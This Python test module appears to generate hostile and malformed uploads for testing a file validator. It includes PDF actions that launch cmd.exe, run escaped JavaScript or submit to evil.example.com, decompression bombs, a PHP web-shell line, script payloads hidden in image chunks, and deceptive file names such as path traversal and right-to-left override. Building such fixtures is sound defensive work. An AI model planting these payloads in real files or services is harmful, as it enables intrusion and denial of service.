"""Hostile PDFs and images, files under false names, and good files broken at random."""

import io
import random
import struct
import zlib
from collections.abc import Iterator

import pikepdf

from tests.kit.uploads.makers import chunk, flate, packed, page_pdf, pdf, png, stream, with_segment

File = tuple[str, bytes]
SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
ACTIONS = {
    "script": SCRIPT,
    "launch": b"<< /S /Launch /F (cmd.exe) >>",
    "import": b"<< /S /ImportData /F (x) >>",
    "submit": b"<< /S /SubmitForm /F (https://evil.example.com) >>",
    "remote": b"<< /S /GoToR /F (\\\\\\\\host\\\\x.pdf) /D [0 /Fit] >>",
    "embedded": b"<< /S /GoToE /T << /R /C >> >>",
    "play": b"<< /S /Rendition /OP 0 >>",
    "uri": b"<< /S /URI /URI (javascript:alert\\(1\\)) >>",
    "file": b"<< /S /URI /URI (file:///c:/x.exe) >>",
    "then": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + SCRIPT + b" >>",
}
SPELT = {
    b"/JavaScript": [b"/JavaScript", b"/#4aavaScript", b"/Java#53cript", b"/#4A#61#76#61#53#63#72#69#70#74"],
    b"/JS": [b"/JS", b"/J#53", b"/#4aS", b"/#4a#53"],
}


def pdf_actions(draw: random.Random) -> Iterator[File]:
    """Actions at every place where a reader looks for one."""
    for action in ACTIONS.values():
        link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A " + action + b" >>]"
        made = [
            page_pdf(b"/OpenAction " + action),
            page_pdf(b"/AA << /WC " + action + b" >>"),
            page_pdf(b"", b"/AA << /O " + action + b" >>"),
            page_pdf(b"", link),
            page_pdf(b"/OpenAction 5 0 R", b"", action),
            page_pdf(b"/Names << /JavaScript << /Names [(a) 5 0 R] >> >>", b"", action),
            page_pdf(b"/Outlines << /First << /Title (a) /A 5 0 R >> >>", b"", action),
            page_pdf(b"", b"", action),
        ]
        for content in made:
            yield "action.pdf", content
            yield "packed action.pdf", _in_object_streams(content)


def _in_object_streams(content: bytes) -> bytes:
    target = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as read:
        # Only what something leads to is written: the catalogue holds the rest.
        read.Root.Kept = pikepdf.Array(list(read.objects))
        read.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return target.getvalue()


def pdf_escapes(draw: random.Random) -> Iterator[File]:
    """Names that are spelt otherwise and mean the same."""
    for first in SPELT[b"/JavaScript"]:
        for second in SPELT[b"/JS"]:
            action = b"<< /S " + first + b" " + second + b" (app.alert(1)) >>"
            yield "escaped.pdf", page_pdf(b"/Open#41ction " + action)
            yield "escaped packed.pdf", _in_object_streams(page_pdf(b"", b"", action))


def pdf_contents(draw: random.Random) -> Iterator[File]:
    """Attachments, media, forms of the second kind, encryption."""
    attached = b"<< /Type /Filespec /F (x.exe) /EF << /F 6 0 R >> >>"
    held = stream(b"MZ", b"/Type /EmbeddedFile")
    whole = [
        page_pdf(b"/Names << /EmbeddedFiles << /Names [(x) 5 0 R] >> >>", b"", attached, held),
        page_pdf(b"", b"/Annots [<< /Subtype /FileAttachment /FS 5 0 R >>]", attached, held),
        page_pdf(b"/AF [5 0 R]", b"", attached, held),
        page_pdf(b"", b"", held),
        page_pdf(b"/Collection << /View /D >>"),
        page_pdf(b"/AcroForm << /XFA [(a) 5 0 R] >>", b"", stream(b"<xdp/>")),
        *[
            page_pdf(b"", b"/Annots [<< /Subtype /%b >>]" % kind)
            for kind in (b"RichMedia", b"Screen", b"Movie", b"Sound", b"3D")
        ],
        page_pdf(content=stream(b"", b"/F (\\\\\\\\host\\\\x)")),
        page_pdf(content=stream(b"", b"/Filter /Crypt")),
        page_pdf(trailer=b"/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>"),
    ]
    for content in whole:
        yield "content.pdf", content
    for content in whole[:-2]:  # writing the last two again would leave nothing of them
        yield "packed content.pdf", _in_object_streams(content)
    for level in (2, 3, 4, 6):
        target = io.BytesIO()
        with pikepdf.open(io.BytesIO(page_pdf())) as read:
            read.save(
                target,
                encryption=pikepdf.Encryption(
                    owner="o", user=draw.choice(["", "u"]), R=level, aes=level > 3, metadata=level > 3
                ),
            )
        yield "encrypted.pdf", target.getvalue()


def pdf_structure(draw: random.Random) -> Iterator[File]:
    """PDFs that begin late, go on after their end, lack parts, or point astray."""
    good = page_pdf()
    for before in (b"\n", b"GIF89a", b"\0" * 1000, packed({"a": b"a"}), b"<html>", b"#!/bin/sh\n", b"MZ"):
        yield "before.pdf", before + good
    for behind in (packed({"a": b"a"}), b"<script>1</script>", b"MZ" + bytes(99), b"\0" * 2000, good, b"x"):
        yield "behind.pdf", good + behind
    for where in range(8):
        yield "zip inside.pdf", page_pdf(content=stream(bytes(where * 99) + packed({"a.txt": b"a"})))
    yield "no pages.pdf", pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"])
    yield "no catalogue.pdf", pdf([b"<< >>"])
    yield "hidden.pdf", good.replace(b"endobj\nxref", b"endobj\n9 0 obj << /S /JavaScript /JS (x) >> endobj\nxref")
    for digits in range(1, 9):
        yield "astray.pdf", good.replace(b"startxref\n", b"startxref\n%d" % digits)
    for header in (b"%PDF-9.9\n", b"%PDF-\n", b"%PDF-1.7", b"%PDF-1.x\n", b"%PDF-3.0\n"):
        yield "header.pdf", good.replace(b"%PDF-1.7\n", header)
    for _ in range(20):
        yield "cut.pdf", good[: draw.randint(10, len(good) - 8)]


def pdf_bombs(draw: random.Random) -> Iterator[File]:
    """Streams that unfold without end, alone, in layers, or in numbers."""
    for size, times in ((170, 1), (170, 2), (170, 3), (300, 1)):
        content = bytes(size << 20)
        yield "bomb.pdf", page_pdf(content=flate(content, times))
    many = flate(bytes(100 << 20))
    yield "many.pdf", page_pdf(b"", b"", *[many] * 8)
    yield "objects.pdf", page_pdf(b"", b"", *[b"null"] * 120_000)
    yield "filters.pdf", page_pdf(content=stream(b"", b"/Filter [" + b"/FlateDecode " * 50 + b"]"))


def images_in_two(draw: random.Random, jpeg: bytes) -> Iterator[File]:
    """Images that are something else as well."""
    others = [packed({"a.txt": b"a"}), b"%PDF-1.7\n1 0 obj", b"<?php system($_GET[0]); ?>", b"<script>alert(1)</script>"]
    others += [
        b"<html><body>",
        b"<svg onload=x>",
        b"\x7fELF\x02\x01",
        b"Rar!\x1a\x07\x01\0",
        b"7z\xbc\xaf\x27\x1c\0\x04",
        b"#!/bin/sh\nrm",
    ]
    for other in others:
        yield "behind.png", png() + other
        yield "behind.jpg", jpeg + other
        for name in (b"tEXt", b"iTXt", b"eXIf", b"prVt"):
            yield "text.png", png(before=chunk(name, b"Comment\0" + (b"\0\0\0\0" if name == b"iTXt" else b"") + other))
            yield "late text.png", png(after=chunk(name, b"Comment\0" + (b"\0\0\0\0" if name == b"iTXt" else b"") + other))
        yield "folded text.png", png(before=chunk(b"zTXt", b"Comment\0\0" + zlib.compress(other)))
        yield "folded profile.png", png(before=chunk(b"iCCP", b"icc\0\0" + zlib.compress(bytes(200) + other)))
        for marker in (0xFE, 0xE1, 0xE5, 0xED):
            yield "comment.jpg", with_segment(jpeg, marker, b"x" * draw.randint(0, 50) + other)
        yield "pixels.png", png(pixels=bytes(72) + other)
    yield "large text.png", png(before=chunk(b"tEXt", b"a\0" + bytes(300_000)))
    yield "large own.png", png(before=chunk(b"prVt", draw.randbytes(70_000)))
    yield "large comment.jpg", with_segment(jpeg, 0xFE, bytes(40_000))


def images_broken(draw: random.Random, jpeg: bytes) -> Iterator[File]:
    """Images that are not whole, or far larger than they look."""
    good = png(40, 40, before=chunk(b"tEXt", b"a\0b"))
    for _ in range(60):
        at = draw.randrange(8, len(good))
        yield "flipped.png", good[:at] + bytes([good[at] ^ (1 << draw.randrange(8))]) + good[at + 1 :]
    for _ in range(30):
        yield "cut.png", good[: draw.randrange(10, len(good))]
        yield "cut.jpg", jpeg[: draw.randrange(4, len(jpeg) - 1)]
    for width, height in ((60_000, 60_000), (2**31 - 1, 1), (40_000, 10), (0, 8), (65_000, 1_000)):
        yield "size.png", png(width, height, pixels=b"")
        frame = jpeg.index(b"\xff\xc0") + 5
        yield "size.jpg", jpeg[:frame] + struct.pack(">HH", min(height, 65535), min(width, 65535)) + jpeg[frame + 4 :]
    for wrong in (bytes(71), bytes(73), bytes(100 << 20), b"\xff" * 72):
        yield "pixels.png", png(pixels=wrong)
    for name in (b"zTXt", b"iCCP"):
        yield "unfolding.png", png(before=chunk(name, b"a\0\0" + zlib.compress(bytes(60 << 20), 9)))
    scan = jpeg[jpeg.index(b"\xff\xda") : -2]
    yield "scans.jpg", jpeg[:-2] + scan * 100 + b"\xff\xd9"
    yield "no frame.jpg", jpeg[:2] + jpeg[jpeg.index(b"\xff\xda") :]
    yield "arithmetic.jpg", jpeg.replace(b"\xff\xc0", b"\xff\xc9")
    yield "twice.jpg", jpeg + jpeg
    yield "unknown chunk.png", png(before=chunk(b"ABCD", b""))
    yield "in pieces.png", png(after=chunk(b"tEXt", b"a\0b") + chunk(b"IDAT", b""))


OTHERS = {
    "exe": b"MZ" + bytes(500),
    "gif": b"GIF89a" + bytes(50),
    "bmp": b"BM" + bytes(80),
    "webp": b"RIFF\x10\0\0\0WEBPVP8 " + bytes(20),
    "html": b"<!doctype html><script>1</script>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "rtf": b"{\\rtf1 hello}",
    "js": b"var a = new ActiveXObject('x')",
    "txt": b"hello",
    "rar": b"Rar!\x1a\x07\0" + bytes(50),
    "ps": b"%!PS-Adobe-3.0\n",
    "tif": b"II*\0" + bytes(50),
    "lnk": b"L\0\0\0\x01\x14\x02\0",
}


def mislabelled(good: dict[str, bytes]) -> Iterator[File]:
    """Every kind under every other's name, other kinds under ours, and names that deceive."""
    for ending in good:
        for kind, content in good.items():
            if kind != ending:
                yield f"a.{ending}", content
        for content in OTHERS.values():
            yield f"a.{ending}", content
            yield f"a.{ending}", content + good[ending]
        yield f"a.{ending}", b""
        for name in (".exe", ".{}.exe", ".docm", "", ".{}.", ".{}\0", ".{} .scr", ".html", ".svg"):
            yield "a" + name.format(ending), good[ending]
        for name in (
            "../a.{}",
            "a/b.{}",
            "a\\b.{}",
            "\u202efdp.{}",
            "a\u200b.{}",
            "a\r\nb: c.{}",
            ".{}",
            "CON.{}",
            "a" * 200 + ".{}",
            "a:b.{}",
        ):
            yield name.format(ending), good[ending]


def broken(good: dict[str, bytes], draw: random.Random) -> Iterator[File]:
    """Good files cut off, doubled, turned round, or with a piece of one in the other."""
    for ending, content in good.items():
        for _ in range(12):
            at = draw.randrange(1, len(content) - 12)
            yield f"cut.{ending}", content[:at]
            yield f"beginning lost.{ending}", content[at:]
            other = draw.choice([one for kind, one in good.items() if kind != ending])
            yield f"half and half.{ending}", content[:at] + other[len(other) // 2 :]
        yield f"backwards.{ending}", content[::-1]
        yield f"doubled.{ending}", content + content
        yield f"nothing but its beginning.{ending}", content[:8] + bytes(5000)
